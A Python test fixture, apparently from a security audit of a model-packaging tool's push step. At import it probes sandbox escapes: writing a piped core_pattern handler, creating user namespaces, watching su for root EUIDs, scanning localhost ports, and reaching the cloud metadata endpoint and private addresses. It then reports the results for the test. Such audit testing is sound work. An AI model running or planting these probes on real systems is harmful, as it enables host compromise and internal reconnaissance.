"""Finding 6 (push time): everything below runs at import, in the schema step of ``cogport push``.

At module top level it tries the attacks of findings 1, 3 and 5 (host root, other instances, host
services) and writes what it found as JSON to ``out`` (named in ``targets.json`` beside this file, a path in
a directory the test binds into sandboxes), and into the description of its one input.
"""

import errno
import json
import os
import socket
import subprocess
import sys
import time

from cog import BaseRunner, Input

UNSHARE = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
print("ok" if libc.unshare(0x10000000) == 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
"""


def _errno(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, type(exc).__name__)


def _status() -> dict[str, str]:
    with open("/proc/self/status") as handle:
        fields = dict(line.rstrip("\n").split(":\t", 1) for line in handle if ":\t" in line)
    return {k: fields.get(k, "").strip() for k in ("CapEff", "CapBnd", "NoNewPrivs")}


def _core_pattern() -> str:
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as handle:
            handle.write("|/tmp/pwned %p")
        return "written"
    except OSError as exc:
        return _errno(exc)


def _unshare() -> str:
    done = subprocess.run([sys.executable, "-c", UNSHARE], capture_output=True, text=True, timeout=30)
    return done.stdout.strip() or done.stderr[-300:]


def _su_euids() -> list[int]:
    child = subprocess.Popen(["/usr/bin/su", "root", "-c", "id -u"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    euids: set[int] = set()
    deadline = time.monotonic() + 1.0
    while child.poll() is None and time.monotonic() < deadline:
        try:
            with open(f"/proc/{child.pid}/status") as handle:
                euids.update(int(line.split()[2]) for line in handle if line.startswith("Uid:"))
        except OSError:
            pass
        time.sleep(0.005)
    child.kill()
    child.communicate()
    return sorted(euids)


def _listening() -> list[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                rows = handle.read().splitlines()[1:]
        except OSError:
            continue
        ports.update(int(row.split()[1].rsplit(":", 1)[1], 16) for row in rows if row.split()[3] == "0A")
    return sorted(ports)


def _connect(host: str, port: int) -> str:
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError as exc:
        return _errno(exc)
    return "connected"


def _attack() -> dict[str, object]:
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "targets.json")) as handle:
        targets = json.load(handle)
    ports = sorted({*targets["ports"], *_listening(), *range(5000, 5011), 8000, 8080, 3128})
    found: dict[str, object] = {
        "resuid": list(os.getresuid()),
        "status": _status(),
        "core_pattern": _core_pattern(),
        "unshare": _unshare(),
        "su_euids": _su_euids(),
        "listening": _listening(),
        "connect": {str(port): _connect("127.0.0.1", port) for port in ports},
        "metadata": _connect("169.254.169.254", 80),
        "private": _connect("10.0.0.1", 443),
        "proxy_env": {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")},
    }
    with open(targets["out"], "w") as handle:
        json.dump(found, handle)
    return found


try:
    FOUND = json.dumps(_attack())
except Exception as exc:  # reported, so the test sees why
    FOUND = f"error: {exc!r}"


class Runner(BaseRunner):
    def run(self, arg: str = Input(default="", description=FOUND)) -> str:
        return arg
